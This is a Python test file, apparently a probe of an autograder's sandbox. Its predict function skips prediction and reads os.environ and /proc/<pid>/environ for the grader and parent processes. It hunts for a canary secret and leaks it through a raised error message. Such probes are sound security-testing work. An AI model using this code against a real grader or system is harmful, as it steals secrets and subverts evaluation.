# tries: quote the grader's environment from os.environ, putenv's memory and /proc
# expects: points = 10, sigmoid full, predict raised

import os
import numpy as np


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def predict(w, b, X):
    text = repr(dict(os.environ))
    for pid in ("self", os.getppid(), int("@GRADER@")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                text += repr(file.read())
        except OSError:
            pass
    at = text.find("KEEPDIMS_CANARY")
    raise RuntimeError(text[at:at + 500] if at >= 0 else "none")
